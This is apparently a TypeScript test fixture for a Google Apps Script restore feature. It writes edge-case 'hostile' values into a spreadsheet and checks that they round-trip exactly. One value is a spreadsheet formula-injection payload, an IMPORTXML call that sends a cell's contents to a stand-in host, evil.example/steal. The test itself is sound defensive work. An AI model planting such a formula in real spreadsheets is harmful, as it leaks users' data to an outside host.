/// <reference types="google-apps-script" />
import { asLead } from '../apps-script/as-lead';
import type { ServedCil } from './served-cil';

// Cells a restore must put back exactly: typed by a lead in Sheets (so stored as Sheets stores them),
// in a record tab and in a lead's own tab with formulas.

/** What the hostile notes hold once stored: the text, without the apostrophe that kept it text. */
export const HOSTILE_NOTES = [
  '=IMPORTXML("http://evil.example/steal?d="&A2,"//a")',
  "'starts with an apostrophe",
  'commas, "double quotes", and\nnew\r\nlines',
  'emoji 🙂🇵🇰 and اردو',
  '+92 300 1234567',
  '0012',
  'TRUE',
  '=1+1',
];

export function addHostileCells(served: ServedCil): void {
  asLead(
    served.sandbox,
    (spreadsheetId: string, typed: string[]) => {
      const book = SpreadsheetApp.openById(spreadsheetId);
      const volunteers = book.getSheetByName('Volunteers')!;
      const header = volunteers.getRange(1, 1, 1, volunteers.getLastColumn()).getValues()[0]!;
      const notes = header.indexOf('Notes') + 1;
      // Typed with the apostrophe that tells Sheets to keep the rest as text.
      volunteers.getRange(2, notes, typed.length, 1).setValues(typed.map((text) => [`'${text}`]));
      const own = book.insertSheet("Lead's notes");
      own.getRange(1, 1, 4, 3).setValues([
        ['Note', 'Count', 'Done'],
        ['first, with a comma', 3, true],
        ['second', 2.75, false],
        ['', '', ''],
      ]);
      own.getRange(4, 1).setFormula('=COUNTA(Volunteers!A2:A)');
      own.getRange(4, 2).setFormula('=SUM(B2:B3)*2');
    },
    [served.spreadsheetId, HOSTILE_NOTES],
  );
}
